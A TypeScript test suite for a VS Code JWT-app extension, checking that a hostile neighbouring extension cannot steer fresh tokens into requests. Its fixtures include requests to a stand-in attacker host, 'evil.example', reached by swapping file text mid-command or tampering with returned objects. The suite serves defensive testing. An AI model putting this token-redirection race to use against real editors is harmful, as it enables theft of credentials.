import { strict as assert } from "node:assert";
import * as vscode from "vscode";
import type { JwtApp } from "../../../src/domain/apps/jwtApp";
import type { DecryptReport } from "../../../src/domain/payloads/open/decryptResult";
import { newKeyPair, payloadApp, seal } from "../../host/envelopes";
import { activated, forgetAll, hs256App, newSecret, saved, signedToken, until } from "../../host/support";
import { restClient } from "../../host/standIns";
import { asking, neighbour, type Neighbour } from "./neighbour";

/** As others may try to write what they got. */
type Writable<T> = { -readonly [Name in keyof T]: Writable<T[Name]> };

describe("What another extension changes behind a command's back", () => {
  const secret = newSecret();
  let app: JwtApp;
  let hostile: Neighbour;

  before(async () => {
    hostile = await neighbour();
  });
  beforeEach(async () => {
    await forgetAll();
    await vscode.commands.executeCommand("workbench.action.closeAllEditors");
    await vscode.commands.executeCommand("jwtApps.forgetTokens");
    app = await saved(
      hs256App("Mine", { host: "platform.kore.ai", scopes: [{ id: "xo/bot-sessions", published: false }] }),
      { clientSecret: secret },
    );
  });
  after(forgetAll);

  const OWN = "POST https://platform.kore.ai/api/public/bots";
  const twoRequests = (own: string, foreign: string): string =>
    `${OWN}\nauth: ${own}\n\n###\nPOST https://evil.example/x\nauth: ${foreign}\n`;

  async function shown(text: string): Promise<vscode.TextEditor> {
    const editor = await hostile.open(text, "http");
    await until(() => vscode.window.activeTextEditor?.document === editor.document, "the file is in front");
    return editor;
  }

  async function tokens(): Promise<readonly [mine: string, foreign: string]> {
    const now = Math.floor(Date.now() / 1000);
    const mine = await signedToken({ appId: app.clientId, sub: "jane", iat: now - 600, exp: now - 300 }, secret);
    return [mine, await signedToken({ appId: "cs-foreign", sub: "x", exp: 1 }, newSecret())];
  }

  async function replaceAll({ document }: vscode.TextEditor, text: string): Promise<void> {
    const edit = new vscode.WorkspaceEdit();
    edit.replace(document.uri, new vscode.Range(0, 0, 99, 0), text);
    await vscode.workspace.applyEdit(edit);
  }

  /** Runs `change` the first time that the secrets of an app are read. */
  async function duringSecrets<T>(change: () => Promise<void>, run: () => Promise<T>): Promise<T> {
    const { store } = await activated();
    const { secretsOf } = store;
    let isChanged = false;
    store.secretsOf = async (of) => {
      if (!isChanged) {
        isChanged = true;
        await change();
      }
      return secretsOf.call(store, of);
    };
    try {
      return await run();
    } finally {
      Reflect.deleteProperty(store, "secretsOf");
      assert.ok(isChanged);
    }
  }

  for (const send of [false, true]) {
    it(`gets no fresh token into another request${send ? ", nor sent," : ""} by tokens that change places`, async () => {
      const sender = restClient();
      const [mine, foreign] = await tokens();
      const editor = await shown(twoRequests(mine, foreign));
      const { asked, said } = await duringSecrets(
        () => replaceAll(editor, twoRequests(foreign, mine)),
        () =>
          asking(() =>
            hostile.call("jwtApps.refreshToken", {
              uri: editor.document.uri.toString(),
              range: { start: { line: 1, character: 6 }, end: { line: 1, character: 6 + mine.length } },
              tail: mine.slice(-12),
              from: "editor",
              send,
            }),
          ),
      );
      sender.dispose();
      assert.deepEqual([asked, said], [[], ["No token was made: the file was changed meanwhile. Try again."]]);
      assert.equal(editor.document.getText(), twoRequests(foreign, mine));
      assert.deepEqual(sender.called, []);
    });
  }

  it("gets no token for a request whose host stands there by the time that a question is answered", async () => {
    const before = `# jwt-app: Mine\n${OWN}\nX-A: 1\nX-B: 2\nX-C: 3\nauth:\n\n{}\n`;
    const after = `# jwt-app: Mine\n${OWN}\n\n###\nPOST https://evil.example/x\nauth:\n\n{}\n`;
    const editor = await shown(before);
    const { showWarningMessage } = vscode.window;
    Object.assign(vscode.window, {
      showWarningMessage: async (_: string, ...rest: unknown[]) => {
        if (!rest.includes("Allow for This Session")) return undefined;
        await replaceAll(editor, after);
        return "Allow for This Session";
      },
    });
    try {
      const place = { line: 1, character: 6 };
      await assert.rejects(
        hostile.call("jwtApps.refreshToken", {
          uri: editor.document.uri.toString(),
          range: { start: place, end: place },
          insert: true,
        }),
        /the file was changed meanwhile|no request without a token/,
      );
    } finally {
      Object.assign(vscode.window, { showWarningMessage });
    }
    assert.equal(editor.document.getText(), after);
  });

  it("is asked each time where a request without a token gets one", async () => {
    const text = `# jwt-app: Mine\n${OWN}\n\n{}\n`;
    const editor = await shown(text);
    const place = { line: 1, character: 0 };
    const argument = {
      uri: editor.document.uri.toString(),
      range: { start: place, end: place },
      insert: true,
      from: "editor",
    };
    for (const turn of ["first", "second"]) {
      const { asked } = await asking(() => hostile.call("jwtApps.refreshToken", argument), "Write");
      assert.deepEqual(asked, ["modal"], turn);
      assert.notEqual(editor.document.getText(), text);
      await replaceAll(editor, text);
    }
  });

  it("leaves our apps as they are, in what a command returned", async () => {
    const { store } = await activated();
    const { result } = await asking(() => hostile.call("jwtApps.publishScopes", { app: "Mine" }));
    const returned = result as Writable<JwtApp>;
    assert.equal(returned.name, "Mine");
    returned.host = "evil.example";
    returned.id = "";
    assert.equal((await store.get(app.id))?.host, "platform.kore.ai");
    const own = (await store.get(app.id)) as Writable<JwtApp>;
    assert.throws(() => (own.host = "evil.example"), TypeError);
    assert.throws(() => own.scopes.push({ id: "xo/other", published: true }), TypeError);
  });

  it("leaves the shape that a person is asked to keep as it was found", async () => {
    const keys = await newKeyPair();
    const keyed = await payloadApp("Keyed", keys);
    const other = await payloadApp("Other", await newKeyPair());
    await shown(JSON.stringify(await seal('{"plain":"TEXT"}', keys)));
    const { result } = await asking(() => hostile.call("jwtApps.decryptSelection"));
    const { uri, report } = result as { uri: string; report: Writable<DecryptReport> };
    report.app.appId = other.id;
    await asking(() => hostile.call("jwtApps.keepEnvelopeShape", { uri }), "Keep This Shape");
    const { store } = await activated();
    assert.equal((await store.get(other.id))?.envelopeProfile, undefined);
    assert.notEqual((await store.get(keyed.id))?.envelopeProfile, undefined);
  });

  it("learns nothing of what an encrypted token holds from Explain API Error", async () => {
    await saved(hs256App("Encrypted", { enforceJwe: true }), { clientSecret: secret });
    const copied = await asking(() => hostile.call("jwtApps.copyForLocalPlatform", { app: "Encrypted" }));
    const nbf = Math.floor(Date.now() / 1000) + 9 * 86_400;
    const minted = await asking(
      () => hostile.call("jwtApps.mintToken", { app: (copied.result as JwtApp).id, claims: { nbf } }),
      "Allow for This Session",
    );
    const { token } = minted.result as { token: string };
    assert.equal(token.split(".").length, 5);
    const explained = async (sent: string): Promise<string> => {
      const text = `${OWN}\nauth: ${sent}\n\nHTTP/1.1 401 Unauthorized\n\n{"errors":[{"msg":"nbf scope","code":401}]}`;
      const { asked, result } = await asking(() => hostile.call("jwtApps.explainError", { text }));
      assert.deepEqual(asked, []);
      return JSON.stringify(result);
    };
    assert.doesNotMatch(await explained(token), /ahead|signature-matches/);
    const [mine] = await tokens();
    assert.match(await explained(mine), /signature-matches/, "what is in clear is judged as ever");
  });
});
